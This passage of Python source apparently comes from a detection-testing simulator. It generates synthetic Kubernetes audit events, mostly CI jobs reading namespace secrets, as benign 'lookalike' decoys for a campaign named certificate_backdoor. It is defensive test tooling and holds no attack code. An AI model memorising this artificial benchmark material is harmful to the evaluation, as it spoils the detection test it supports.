    for moment in f.times(1, 2):
        f.at(moment)
        ci = k8s._ci(f.rng, k8s._CI_KUBECTL)
        reads = [(app.namespace, app.secret) for app in k8s._APPS]
        if f.rng.random() < 0.5:
            reads.append(("api", "backend-redis"))
        f.rng.shuffle(reads)
        for namespace, secret in reads:
            f.emit(
                f.name,
                ci,
                "get",
                f"/api/v1/namespaces/{namespace}/secrets/{secret}",
                after=f.rng.uniform(2, 90),
            )
    return f


_FAMILIES = (
    _pipeline_cronjobs,
    _engineer_cronjobs,
    _platform_cronjobs,
    _cronjob_suspends,
    _addon_pod_replacements,
    _node_debug_pods,
    _sre_host_network_pods,
    _pipeline_identity_annotations,
    _engineer_sa_edits,
    _addon_sa_reconcile,
    _preview_namespace_teardown,
    _event_pruner,
    _pod_janitor,
    _engineer_secret_reads,
    _addon_secret_reads,
    _pipeline_secret_reads,
)


@lookalikes(CAMPAIGN, tuple(fn.__name__.lstrip("_") for fn in _FAMILIES))
def certificate_backdoor_lookalikes(ctx: SimContext) -> Stages:
    """Every family's rows, filed under the family's name."""
    out: Stages = {}
    for make in _FAMILIES:
        out.update(make(ctx).stages)
    return out
